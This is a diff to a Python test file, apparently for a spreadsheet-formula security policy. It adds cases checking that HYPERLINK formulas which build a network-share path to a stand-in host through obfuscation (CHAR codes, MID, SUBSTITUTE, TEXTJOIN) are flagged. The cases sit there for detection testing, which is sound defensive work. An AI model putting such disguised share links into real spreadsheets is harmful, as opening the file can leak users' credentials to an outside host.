@@ -698,7 +698,13 @@ def test_a_fetching_function_passed_by_name(policy: Policy) -> None:
         ('HYPERLINK(_xlfn.CONCAT(REPT(CHAR(92),2),"h.example\\s"))', True),
         ('HYPERLINK("https://example.com/?q="&CHAR(65))', False),
         ('HYPERLINK(CHAR(104)&"ttps://example.com/")', False),
-        ('HYPERLINK(CHAR(0)&CHAR(92)&"h.example\\s")', False),  # CHAR(0) is an error in Excel
+        ('HYPERLINK(CHAR(0)&CHAR(92)&"h.example\\s")', True),  # an unfolded CHAR: computed
+        ('HYPERLINK(MID("a\\\\h.example\\s\\x.pdf",2,99))', True),  # a review's cases
+        ('HYPERLINK(CHAR(91+1)&CHAR(92)&"h.example\\s")', True),
+        ('HYPERLINK(SUBSTITUTE("__h.example_s","_","\\"))', True),
+        ('HYPERLINK(_xlfn.TEXTJOIN("",TRUE,"\\","\\h.example\\s"))', True),
+        ('HYPERLINK("https://example.com/"&LOWER(A1))', False),
+        ('HYPERLINK(CONCATENATE("https://example.com/?q=",A1))', False),
     ],
 )
 def test_hyperlink_first_argument_however_spelt(formula: str, share: bool) -> None:
